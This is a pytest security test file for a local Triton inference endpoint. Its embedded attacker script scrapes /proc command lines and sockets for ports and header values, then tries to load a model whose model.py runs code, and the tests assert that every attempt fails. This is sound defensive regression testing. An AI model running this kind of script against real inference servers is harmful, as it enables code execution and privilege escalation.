"""Another local program against a running local endpoint (issue 22 C1, HIGH): it reads what `ps` shows for
the endpoint's process tree (/proc/PID/cmdline, readable by every local user), then tries to load a model
whose model.py would run as the endpoint's user through every port the tree listens on, using every header
value it found on those command lines. Nothing may load and no command line may hold a secret.

Why it fails (triton_backend.py): Triton's repository API is locked on a single-model endpoint and refuses
loads on a multi-model one (`--model-control-mode=poll`: load/unload requests "will have no affect and will
return an error response", Triton's docs/user_guide/model_management.md, v2.51.0); the lock is
`--http-restricted-api` / `--grpc-restricted-protocol` with a value holding a line feed, which no HTTP header
(RFC 9110 5.5) or gRPC metadata value can carry; the front loads only folders under its private (0700)
staging folder. The attacker runs as this user (a test cannot switch users), which gives it more than
another user has: it also reads the processes' open sockets to find their ports.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from endpoint_client.client import EndpointClient
from endpoint_client.local_endpoint import LocalEndpoint, free_port
from endpoint_client.shm_guard import restrict_regions

ATTACKER = r"""
import base64, json, os, re, socket, sys

root, marker, evil_dir = int(sys.argv[1]), sys.argv[2], sys.argv[3]

def children():
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = open(f"/proc/{entry}/stat").read().rsplit(")", 1)[1].split()
            except OSError:
                continue
            parents.setdefault(int(fields[1]), []).append(int(entry))
    return parents

def tree(pid):
    found, todo, parents = [], [pid], children()
    while todo:
        current = todo.pop()
        found.append(current)
        todo.extend(parents.get(current, []))
    return found

def cmdline(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        return []

def listening_ports(pids):
    inodes = set()
    for pid in pids:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
                if link.startswith("socket:["):
                    inodes.add(link[8:-1])
        except OSError:
            continue
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            parts = line.split()
            if parts[3] == "0A" and parts[9] in inodes:
                ports.add(int(parts[1].rsplit(":", 1)[1], 16))
    return sorted(ports)

def http(port, method, path, body, headers):
    head = (f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n")
    raw = head.encode() + b"".join(k + b": " + v + b"\r\n" for k, v in headers) + b"\r\n" + body
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
            connection.sendall(raw)
            reply = b""
            while chunk := connection.recv(65536):
                reply += chunk
        return reply.split(b"\r\n", 1)[0].decode(errors="replace") + " " + reply[-200:].decode(errors="replace")
    except OSError as error:
        return f"error {error}"

pids = tree(root)
lines = {pid: [a.decode(errors="replace") for a in cmdline(pid)] for pid in pids}
headers = [(b"", b"")]
for arguments in lines.values():
    for argument in arguments:
        match = re.match(r"--(?:http-restricted-api|grpc-restricted-protocol)=[^:]*:([^=]+)=(.*)", argument, re.S)
        if match:
            headers.append((match.group(1).encode(), match.group(2).encode()))
code = f"open({marker!r}, 'w').write('ran')\nclass TritonPythonModel:\n    pass\n"
files = {"config": json.dumps({"backend": "python"}),
         "file:1/model.py": base64.b64encode(code.encode()).decode()}
load = json.dumps({"parameters": files}).encode()
front_load = json.dumps({"model_name": "pwn", "url": evil_dir}).encode()
ports = listening_ports(pids)
tries = []
for port in ports:
    for key, value in headers:
        sent = [(key, value)] if key else []
        tries.append([port, "http load", http(port, "POST", "/v2/repository/models/pwn/load", load, sent)])
    tries.append([port, "front load", http(port, "POST", "/models", front_load, [])])
    try:
        import tritonclient.grpc as grpcclient
        client = grpcclient.InferenceServerClient(f"127.0.0.1:{port}")
        client.load_model("pwn", config=json.dumps({"backend": "python"}), files={"file:1/model.py": code.encode()})
        tries.append([port, "grpc load", "loaded"])
    except Exception as error:
        tries.append([port, "grpc load", str(error)[:200]])
print(json.dumps({"cmdlines": lines, "ports": ports, "tries": tries}))
"""


def attack(tmp_path: Path) -> dict:
    marker = tmp_path / "attacker-ran"
    evil = tmp_path / "evil" / "pwn" / "1"
    evil.mkdir(parents=True)
    (evil.parent / "config.pbtxt").write_text('backend: "python"\n')
    (evil / "model.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    result = subprocess.run(
        [sys.executable, "-c", ATTACKER, str(os.getpid()), str(marker), str(tmp_path / "evil")],
        capture_output=True,
        text=True,
        timeout=240,
        check=True,
    )
    return {**json.loads(result.stdout), "marker": marker}


def assert_nothing_loaded(endpoint: LocalEndpoint, report: dict) -> None:
    assert not report["marker"].exists(), report["tries"]
    assert endpoint.triton is not None and not endpoint.triton.model_ready("pwn")
    assert all(outcome != "loaded" and not outcome.startswith("HTTP/1.1 200") for *_, outcome in report["tries"])


def assert_no_secret_on_any_command_line(endpoint: LocalEndpoint, report: dict) -> None:
    triton_lines = [line for line in report["cmdlines"].values() if any("tritonserver" in a for a in line)]
    assert triton_lines, "the attacker found the tritonserver process"
    for arguments in report["cmdlines"].values():
        for argument in arguments:
            assert not re.search(r"[0-9a-f]{32}", argument), argument  # the former per-run key (token_hex(16))
            if argument.startswith(("--http-restricted-api=", "--grpc-restricted-protocol=")):
                assert "\n" in argument.split("=", 2)[2]  # a value no header can carry, public by design


def assert_private_folders(endpoint: LocalEndpoint) -> None:
    for folder in (endpoint.workdir, endpoint.staging, endpoint.workdir / "tmp-sagemaker", endpoint.incoming):
        status = folder.lstat()
        assert stat.S_ISDIR(status.st_mode) and status.st_uid == os.getuid() and stat.S_IMODE(status.st_mode) == 0o700


@pytest.mark.triton
def test_another_program_cannot_load_a_model_into_a_single_model_endpoint(
    triton_env: Path, add_sub_archive: Path, tmp_path: Path
) -> None:
    environment = {
        "SAGEMAKER_TRITON_LOG_VERBOSE": "false",
        "SAGEMAKER_TRITON_ALLOW_GRPC": "true",
        "SAGEMAKER_TRITON_GRPC_PORT": str(free_port()),
        "SAGEMAKER_TRITON_ALLOW_METRICS": "true",
        "SAGEMAKER_TRITON_METRICS_PORT": str(free_port()),
    }
    with LocalEndpoint(
        add_sub_archive, environment=environment, triton_env=triton_env, workdir=tmp_path / "work", startup_timeout=60
    ) as endpoint:
        report = attack(tmp_path)

        grpc = int(environment["SAGEMAKER_TRITON_GRPC_PORT"])
        metrics = int(environment["SAGEMAKER_TRITON_METRICS_PORT"])
        assert {endpoint.port, endpoint.triton.port, grpc, metrics} <= set(report["ports"])
        assert_nothing_loaded(endpoint, report)
        assert_no_secret_on_any_command_line(endpoint, report)
        assert_private_folders(endpoint)
        locked = [o for port, what, o in report["tries"] if port == endpoint.triton.port and what == "http load"]
        # Without the header: 403. With the value read from the command line, the line feed splits the header
        # and Triton's HTTP parser drops the request (an empty reply): no header can match it.
        assert locked and "This API is restricted" in locked[0]
        assert all(not outcome.startswith("HTTP/1.1 2") for outcome in locked[1:])


@pytest.mark.triton
def test_another_program_cannot_load_a_model_into_a_multi_model_endpoint(
    triton_env: Path, add_sub_archive: Path, tmp_path: Path
) -> None:
    """Also while the front serves a model it loaded itself (by its rename into the polled repository)."""
    environment = {
        "SAGEMAKER_TRITON_LOG_VERBOSE": "false",
        "SAGEMAKER_TRITON_ALLOW_GRPC": "true",
        "SAGEMAKER_TRITON_GRPC_PORT": str(free_port()),
    }
    with LocalEndpoint(
        multi_model=True, environment=environment, triton_env=triton_env, workdir=tmp_path / "work", startup_timeout=60
    ) as endpoint:
        endpoint.load_model("add_sub.tar.gz", add_sub_archive)
        report = attack(tmp_path)

        grpc = int(environment["SAGEMAKER_TRITON_GRPC_PORT"])
        assert {endpoint.port, endpoint.triton.port, grpc} <= set(report["ports"])
        assert_nothing_loaded(endpoint, report)
        assert_no_secret_on_any_command_line(endpoint, report)
        assert_private_folders(endpoint)
        refused = [o for port, what, o in report["tries"] if port == endpoint.triton.port and what == "http load"]
        assert refused and "not allowed if polling is enabled" in refused[0]
        assert all(not outcome.startswith("HTTP/1.1 2") for outcome in refused[1:])
        front = [o for port, what, o in report["tries"] if port == endpoint.port and what == "front load"]
        assert front and "where the local endpoint extracts model archives" in front[0]
        assert endpoint.list_models() == ["add_sub.tar.gz"]


@pytest.mark.triton
def test_a_polled_model_loads_once_and_unloads_at_once(triton_env: Path, add_sub_archive: Path, tmp_path: Path) -> None:
    """Triton's POLL mode reloads a model when any time in its folder grows (core `ModelTimestamp`): the Python
    stub's 1/__pycache__ made it reload each model a second after loading it, and an unload during that
    reload left the model served for minutes. No bytecode is written into a loaded folder now."""
    with LocalEndpoint(
        multi_model=True,
        environment={"SAGEMAKER_TRITON_LOG_VERBOSE": "false"},
        triton_env=triton_env,
        workdir=tmp_path / "work",
        startup_timeout=60,
    ) as endpoint:
        endpoint.load_model("add_sub.tar.gz", add_sub_archive)
        time.sleep(2.5)  # two polls
        loads = endpoint.log_path.read_text().count("loading: ")
        started = time.monotonic()
        endpoint.unload_model("add_sub.tar.gz")
        unload_seconds = time.monotonic() - started
        endpoint.load_model("again.tar.gz", add_sub_archive)
        assert endpoint.list_models() == ["again.tar.gz"]

    assert loads == 1
    assert unload_seconds < 10
    assert not list((tmp_path / "work").glob("tmp-sagemaker/*/1/__pycache__/*"))


# --- another local user cannot read the Python backend's shared memory ------------------------------------------------


def test_the_python_backends_shared_memory_regions_are_owner_only(single_endpoint: LocalEndpoint) -> None:
    """/dev/shm/local_endpoint_<pid>_<port>_<uuid> carried every request's tensors at 0644 (Boost
    fchmod()s them past the umask: shm_guard.py). Stat them while the endpoint runs, after an inference."""
    inputs = {"INPUT0": np.full((1, 4), 13371337.0, np.float32), "INPUT1": np.ones((1, 4), np.float32)}
    EndpointClient.for_url(single_endpoint.url, model_name="add_sub").invoke(inputs)
    regions = [Path("/dev/shm", name) for name in os.listdir("/dev/shm") if name.startswith(single_endpoint.shm_prefix)]
    assert regions, f"no /dev/shm/{single_endpoint.shm_prefix}* while the endpoint runs"
    modes = {region.name: oct(stat.S_IMODE(region.stat().st_mode)) for region in regions}
    assert set(modes.values()) == {"0o600"}, modes


def test_restrict_regions_touches_only_this_prefix(tmp_path: Path) -> None:
    """The guard chmods the endpoint's own regions only."""
    (tmp_path / "local_endpoint_1_2_a").write_bytes(b"x")
    (tmp_path / "local_endpoint_1_22_b").write_bytes(b"x")
    for path in tmp_path.iterdir():
        path.chmod(0o644)
    assert restrict_regions("local_endpoint_1_2_", tmp_path) == [tmp_path / "local_endpoint_1_2_a"]
    assert stat.S_IMODE((tmp_path / "local_endpoint_1_2_a").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "local_endpoint_1_22_b").stat().st_mode) == 0o644
